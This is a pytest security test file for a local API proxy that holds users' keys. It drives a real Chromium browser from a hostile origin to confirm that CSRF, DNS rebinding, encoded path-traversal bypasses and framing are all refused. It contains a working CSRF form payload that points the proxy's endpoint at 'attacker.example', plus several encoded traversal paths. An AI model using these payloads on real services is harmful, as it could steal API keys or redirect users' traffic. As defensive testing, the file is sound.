"""A hostile web page, in a real Chromium, against a real `ccf serve`.

The plain-HTTP versions of these attacks are in test_security.py; here the browser decides
what it sends (Origin, Sec-Fetch-*, cookies, preflights, framing), as it would for a page the
user happens to have open. The page cannot spend the user's keys, cannot reach the proxy
through a rebound DNS name, cannot drive the admin API with the user's session cookie, and
cannot frame the settings page, and a same-site page (another port of 127.0.0.1) cannot make
the proxy send even a GET upstream with the user's key (found by this module, then fixed).

Hostile origins: `http://evil.test:<port>` (cross-site; Chromium resolves evil.test to
127.0.0.1 through --host-resolver-rules) and `http://127.0.0.1:<port>` (same-site with the
proxy, since ports do not count for sites, so the SameSite=Strict cookie *is* sent).
"""

from __future__ import annotations

import asyncio
import json
import os
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from proxy.admin.token import ensure_admin_token
from proxy.keys import SystemKeyring
from tests.fakes import FakesInThread, FakeUpstream
from tests.serve import ccf_serve
from tests.ui.browser import CHROMIUM, CHROMIUM_ARGS
from tray_app.settings_cli import login_link_source

pytestmark = [pytest.mark.browser, pytest.mark.keyring, pytest.mark.slow]

EVIL = "evil.test"
KEY = "sk-user-secret-1234"
REQUEST = {
    "model": "claude-sonnet-4-5",
    "max_tokens": 5,
    "messages": [{"role": "user", "content": "spend the user's money"}],
}
# What a form with enctype=text/plain posts: `<name>=<value>\r\n`, shaped into valid JSON
# that adds an endpoint at the attacker's server (so Claude Code's traffic would go there).
FORM_NAME = '{"name": "evil", "base_url": "http://attacker.example/v'
FORM_VALUE = '1"}'
FORM_BODY = f"{FORM_NAME}={FORM_VALUE}\r\n"

FETCH = """async ([url, init]) => {
  try {
    const response = await fetch(url, init);
    let body = null;
    try { body = await response.text(); } catch (e) { body = String(e); }
    return {type: response.type, status: response.status, body};
  } catch (e) {
    return {type: "error", status: 0, body: String(e)};
  }
}"""
BLANK = "<!doctype html><title>cute cats</title><p>nothing to see here</p>"


@dataclass
class Hostile:
    """The attacker's web server: a tiny aiohttp app serving whatever `pages` holds."""

    pages: dict[str, str] = field(default_factory=dict)
    runner: web.AppRunner | None = None
    port: int = 0

    async def start(self) -> Hostile:
        app = web.Application()
        app.router.add_get("/{name}", self._page)
        self.runner = web.AppRunner(app, access_log=None)
        await self.runner.setup()
        await web.TCPSite(self.runner, "127.0.0.1", 0).start()
        self.port = int(self.runner.addresses[0][1])
        return self

    async def stop(self) -> None:
        if self.runner is not None:
            await self.runner.cleanup()

    async def _page(self, request: web.Request) -> web.Response:
        html = self.pages.get(request.match_info["name"], BLANK)
        return web.Response(text=html, content_type="text/html")

    def origin(self, host: str = EVIL) -> str:
        return f"http://{host}:{self.port}"


@dataclass
class World:
    url: str  # the proxy, as Claude Code and the settings page reach it
    port: int
    config: Path
    upstream: FakeUpstream  # the provider behind the proxy: must receive nothing
    control: FakeUpstream  # an unguarded loopback server: shows the browser does send
    hostile: Hostile
    page: Any
    context: Any

    def fetch(self, url: str, init: dict[str, Any]) -> dict[str, Any]:
        """Run `fetch(url, init)` in the page (the hostile origin); wait for it to settle."""
        return dict(self.page.evaluate(FETCH, [url, init]))

    def health(self) -> dict[str, Any]:
        with urllib.request.urlopen(f"{self.url}/health", timeout=10) as response:
            return dict(json.load(response))


# Chromium's Private Network Access blocks a page whose address is public (as a page
# fulfilled by Playwright counts) from fetching loopback. Other browsers have no such check,
# so the rebinding test turns it off and meets the proxy's own guard.
NO_PRIVATE_NETWORK_CHECKS = (
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
    "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults"
)


@contextmanager
def open_world(tmp_path: Path, fakes: FakesInThread, *flags: str) -> Iterator[World]:
    """A real `ccf serve` with one keyed provider behind it, the attacker's server, and
    Chromium in a fresh profile that resolves evil.test to 127.0.0.1."""
    from playwright.sync_api import sync_playwright

    upstream, control = fakes.start("a"), fakes.start("control")
    hostile = Hostile()
    asyncio.run_coroutine_threadsafe(hostile.start(), fakes.loop).result(10)
    config = tmp_path / "config.yaml"
    config.write_text(
        "# the user's providers\nendpoints:\n"
        f"  - {{name: a, base_url: '{upstream.url}', auth: x-api-key, key: 'env:CCF_TEST_KEY'}}\n"
    )
    env = {
        **os.environ,
        "CCF_TEST_KEY": KEY,
        "CCF_CONFIG": str(config),
        "CLAUDE_CONFIG_DIR": str(tmp_path / "claude"),
    }
    args = [*CHROMIUM_ARGS, f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", *flags]
    try:
        with ccf_serve(config, env=env) as url, sync_playwright() as playwright:
            context = playwright.chromium.launch_persistent_context(
                str(tmp_path / "profile"), executable_path=CHROMIUM, args=args
            )
            try:
                page = context.pages[0] if context.pages else context.new_page()
                port = int(url.rsplit(":", 1)[1])
                yield World(url, port, config, upstream, control, hostile, page, context)
            finally:
                context.close()
    finally:
        asyncio.run_coroutine_threadsafe(hostile.stop(), fakes.loop).result(10)


@pytest.fixture
def world(tmp_path: Path, threaded_fakes: FakesInThread) -> Iterator[World]:
    with open_world(tmp_path, threaded_fakes) as opened:
        yield opened


@pytest.fixture
def world_without_pna(tmp_path: Path, threaded_fakes: FakesInThread) -> Iterator[World]:
    with open_world(tmp_path, threaded_fakes, NO_PRIVATE_NETWORK_CHECKS) as opened:
        yield opened


def visit(world: World, origin: str, name: str = "blank", html: str = BLANK) -> None:
    world.hostile.pages[name] = html
    world.page.goto(f"{origin}/{name}")
    assert world.page.url == f"{origin}/{name}"


def sign_in(world: World) -> None:
    """Follow a real single-use login link, so the browser holds a session cookie."""
    world.page.goto(login_link_source(world.url, SystemKeyring())())
    world.page.wait_for_selector("#endpoint-list .endpoint")
    [cookie] = [c for c in world.context.cookies() if c["name"] == "ccf_session"]
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/_ccf")


def send_from_test(world: World, path: str, body: bytes, headers: dict[str, str]) -> int:
    request = urllib.request.Request(world.url + path, data=body, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return int(error.code)


# ------------------------------------------------------------------ spending the user's keys


@pytest.mark.timeout(90)
def test_a_hostile_page_cannot_spend_keys_through_the_proxy(world: World) -> None:
    body = json.dumps(REQUEST)
    no_cors = {
        "method": "POST",
        "mode": "no-cors",
        "headers": {"content-type": "text/plain"},
        "body": body,
    }
    cors = {
        "method": "POST",
        "headers": {
            "content-type": "application/json",
            "anthropic-version": "2023-06-01",
            "x-api-key": "sk-ant-whatever",
        },
        "body": body,
    }
    for host in (EVIL, "127.0.0.1", "localhost"):
        visit(world, world.hostile.origin(host))
        # the control: this very fetch does leave the browser for an unguarded loopback port
        sent = len(world.control.received)
        result = world.fetch(f"{world.control.url}/v1/messages", no_cors)
        assert (result["type"], len(world.control.received)) == ("opaque", sent + 1), host
        assert world.control.received[-1].headers["Origin"] == world.hostile.origin(host)
        # a "simple" request: sent without a preflight (with an Origin), the answer unreadable
        result = world.fetch(f"{world.url}/v1/messages", no_cors)
        assert (result["type"], result["status"], result["body"]) == ("opaque", 0, ""), host
        # a CORS request: the preflight is refused (no CORS headers), so it is never sent
        result = world.fetch(f"{world.url}/v1/messages", cors)
        assert result["type"] == "error", (host, result)
        assert "Failed to fetch" in result["body"], (host, result)
    # a GET carries no Origin; from a cross-site page it says Sec-Fetch-Site: cross-site
    for host in (EVIL, "localhost"):
        visit(world, world.hostile.origin(host))
        for path in ("/v1/models", "/v1/messages"):
            result = world.fetch(f"{world.url}{path}", {"mode": "no-cors"})
            assert result["type"] == "opaque", (host, path)
    assert world.upstream.received == []
    # the wiring is live: the same request from a client (no browser headers) goes through
    status = send_from_test(
        world, "/v1/messages", body.encode(), {"content-type": "application/json"}
    )
    assert status == 200
    [received] = world.upstream.received
    assert (received.path, received.headers["x-api-key"]) == ("/v1/messages", KEY)


@pytest.mark.timeout(90)
def test_a_same_site_page_cannot_make_the_proxy_call_the_provider(world: World) -> None:
    """A GET (no-cors fetch, <img>, <script>) carries no Origin, and from another port on
    127.0.0.1 it says Sec-Fetch-Site: same-site; the proxy refuses it all the same."""
    world.upstream.status(529)  # the provider is briefly overloaded
    visit(world, world.hostile.origin("127.0.0.1"))  # same site as the proxy: ports don't count
    for path in ("/v1/models", "/v1/messages", "/v1/messages", "/v1/messages"):
        result = world.fetch(f"{world.url}{path}", {"mode": "no-cors"})
        assert result["type"] == "opaque", path
    sent = [(r.method, r.path, r.headers.get("x-api-key")) for r in world.upstream.received]
    health = world.health()["endpoints"][0]
    assert (sent, health["state"]) == ([], "ok")


# The variants of issue 14: an encoded slash past the guard, and methods the local paths do
# not answer; each was once sent upstream with the user's key. (path, expected status)
ISSUE_14_VARIANTS = [
    ("/_ccf%2F..%2Fv1%2Fmessages", 400),
    ("/%5fccf%2f..%2fv1%2fmessages", 400),
    ("/health", 405),
    ("/metrics", 405),
    ("/%68ealth", 405),
]


@pytest.mark.timeout(90)
def test_the_issue_14_variants_are_refused_in_a_real_browser(world: World) -> None:
    """A simple no-cors POST (text/plain), as any page can send it, for each variant; the
    browser sends each as written (the control server shows it), and the proxy refuses it:
    its status is read from the browser's own network events, since the page cannot."""
    no_cors = {
        "method": "POST",
        "mode": "no-cors",
        "headers": {"content-type": "text/plain"},
        "body": json.dumps(REQUEST),
    }
    refused = []
    for host in (EVIL, "127.0.0.1", "localhost"):
        visit(world, world.hostile.origin(host))
        for path, expected in ISSUE_14_VARIANTS:
            world.fetch(f"{world.control.url}{path}", no_cors)
            assert world.control.received[-1].method == "POST"
            with world.page.expect_response(f"{world.url}{path}") as answer:
                result = world.fetch(f"{world.url}{path}", no_cors)
            assert result["type"] in ("opaque", "error"), (host, path, result)
            assert answer.value.request.url == f"{world.url}{path}"  # sent as written
            assert answer.value.status == expected, (host, path, answer.value.status)
            refused.append((host, path))
    assert world.upstream.received == []
    assert len(refused) == 3 * len(ISSUE_14_VARIANTS)
    health = world.health()
    assert health["endpoints"][0]["state"] == "ok"


# ------------------------------------------------------------------ DNS rebinding


@pytest.mark.timeout(90)
def test_a_rebound_name_reaches_the_proxy_but_is_refused(world_without_pna: World) -> None:
    """After rebinding, evil.test:<proxy port> *is* the proxy, and the page is same-origin
    with it: the browser sends no CORS preflight and may read the answers. Only the `Host`
    check stands in the way, and it answers 403 to everything."""
    world = world_without_pna
    rebound = f"http://{EVIL}:{world.port}"
    world.page.route(
        f"{rebound}/rebound",  # the attacker's page, as served before the rebind
        lambda route: route.fulfill(status=200, content_type="text/html", body=BLANK),
    )
    world.page.goto(f"{rebound}/rebound")
    assert world.page.url == f"{rebound}/rebound"
    attacks = [
        ("/v1/messages", {"method": "POST", "body": json.dumps(REQUEST)}),
        ("/v1/messages", {"method": "POST", "headers": {"content-type": "application/json"}}),
        ("/v1/models", {}),
        ("/health", {}),
        ("/metrics", {}),
        ("/_ccf/api/config", {}),
        ("/_ccf/api/config", {"headers": {"authorization": "Bearer guessed"}}),
        ("/_ccf/api/login-codes", {"method": "POST", "headers": {"content-type": "application/json"}}),
        ("/_ccf/api/routing", {"method": "PUT", "headers": {"content-type": "application/json"}, "body": '{"paused": true}'}),
        ("/_ccf/", {}),
    ]  # fmt: skip
    for path, init in attacks:
        result = world.fetch(path, init)  # relative: same-origin with the rebound name
        assert (result["type"], result["status"]) == ("basic", 403), (path, result)
        assert "Host must be localhost or 127.0.0.1" in result["body"], (path, result)
    # a page on another port of the rebound name: cross-origin, so an Origin goes along too
    visit(world, world.hostile.origin(EVIL))
    for path in ("/v1/messages", "/health", "/_ccf/api/config"):
        result = world.fetch(f"{rebound}{path}", {"method": "POST", "mode": "no-cors"})
        assert result["type"] == "opaque", (path, result)
    assert world.upstream.received == []
    assert world.health()["paused"] is False


# ------------------------------------------------------------------ CSRF on the admin API


@pytest.mark.timeout(90)
def test_csrf_with_the_session_cookie_in_the_browser_changes_nothing(world: World) -> None:
    sign_in(world)
    before = world.config.read_bytes()
    assert world.page.url == f"{world.url}/_ccf/"
    form = f"""<!doctype html><form method=post enctype=text/plain
        action="{world.url}/_ccf/api/endpoints"><input name='{FORM_NAME}' value='{FORM_VALUE}'>
        </form><script>document.forms[0].submit()</script>"""
    for host in (EVIL, "127.0.0.1", "localhost"):
        visit(world, world.hostile.origin(host))
        # no-cors allows only GET, HEAD and POST: the browser itself refuses a no-cors PUT
        result = world.fetch(
            f"{world.url}/_ccf/api/routing",
            {
                "method": "PUT",
                "mode": "no-cors",
                "credentials": "include",
                "headers": {"content-type": "text/plain"},
                "body": '{"paused": true}',
            },
        )
        assert result["type"] == "error", (host, result)
        assert "no-cors" in result["body"], (host, result)
        # a no-cors POST is sent (cookie and all when same-site); its answer is unreadable,
        # and Cross-Origin-Resource-Policy: same-origin even makes the fetch fail
        result = world.fetch(
            f"{world.url}/_ccf/api/endpoints",
            {
                "method": "POST",
                "mode": "no-cors",
                "credentials": "include",
                "headers": {"content-type": "text/plain"},
                "body": FORM_BODY,
            },
        )
        assert (result["type"], result["status"]) == ("error", 0), (host, result)
        # CORS mode with JSON: the preflight is refused, the PUT is never sent
        result = world.fetch(
            f"{world.url}/_ccf/api/routing",
            {
                "method": "PUT",
                "credentials": "include",
                "headers": {"content-type": "application/json"},
                "body": '{"paused": true}',
            },
        )
        assert result["type"] == "error", (host, result)
        assert "Failed to fetch" in result["body"], (host, result)
        # an auto-submitting form: a top-level POST navigation to the admin API
        world.hostile.pages["form"] = form
        with world.page.expect_response(f"{world.url}/_ccf/api/endpoints") as answer:
            world.page.goto(f"{world.hostile.origin(host)}/form")
        assert answer.value.status == 403, (host, answer.value.status)
        assert answer.value.request.method == "POST"
        # same-site (ports don't count), the Strict cookie goes along; the guard still refuses
        cookie = answer.value.request.all_headers().get("cookie", "")
        assert ("ccf_session=" in cookie) is (host == "127.0.0.1"), (host, cookie)
        world.page.wait_for_url(f"{world.url}/_ccf/api/endpoints")
        assert "other web" in world.page.content(), host
    assert world.config.read_bytes() == before
    assert world.health()["paused"] is False
    # the session is still good and the browser still holds it: it was not the cookie that failed
    world.page.goto(f"{world.url}/_ccf/")
    world.page.wait_for_selector("#endpoint-list .endpoint")
    assert [e.get_attribute("data-name") for e in world.page.query_selector_all(".endpoint")] == [
        "a"
    ]
    # and the payload would have worked with the admin's credentials
    status = send_from_test(
        world,
        "/_ccf/api/endpoints",
        FORM_BODY.encode(),
        {
            "content-type": "application/json",
            "authorization": f"Bearer {ensure_admin_token(SystemKeyring())}",
        },
    )
    assert status == 200
    assert b"name: evil" in world.config.read_bytes()


# ------------------------------------------------------------------ clickjacking


def is_blocked_frame(frame: Any) -> bool:
    """A child frame whose navigation Chromium turned into its error page."""
    return frame.parent_frame is not None and frame.url == "chrome-error://chromewebdata/"


FRAMING_REFUSED = 'violates the following Content Security Policy directive: "frame-ancestors'


def is_framing_refusal(message: Any) -> bool:
    """Chromium's console note that it refused to frame a page."""
    return FRAMING_REFUSED in message.text


@pytest.mark.timeout(90)
def test_a_hostile_page_cannot_frame_the_settings_page(world: World) -> None:
    """The user is signed in; the hostile page frames the settings page to trick clicks."""
    sign_in(world)
    html = f'<!doctype html><iframe src="{world.url}/_ccf/" width=800 height=600></iframe>'
    for host, cookie_sent in ((EVIL, False), ("127.0.0.1", True)):
        with (
            world.page.expect_console_message(predicate=is_framing_refusal),
            world.page.expect_event("framenavigated", predicate=is_blocked_frame),
            world.page.expect_response(f"{world.url}/_ccf/") as framed,
        ):
            visit(world, world.hostile.origin(host), "frame", html)
        answer = framed.value
        headers = answer.request.all_headers()
        assert headers["sec-fetch-dest"] == "iframe"
        # same-site, the Strict cookie goes along: the frame *would* be the signed-in page
        assert ("ccf_session=" in headers.get("cookie", "")) is cookie_sent, host
        assert answer.status == 200
        assert answer.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        [child] = [f for f in world.page.frames if f != world.page.main_frame]
        assert child.url == "chrome-error://chromewebdata/", (host, child.url)
        assert child.query_selector("#endpoint-list") is None
        assert "/_ccf/" not in child.content()
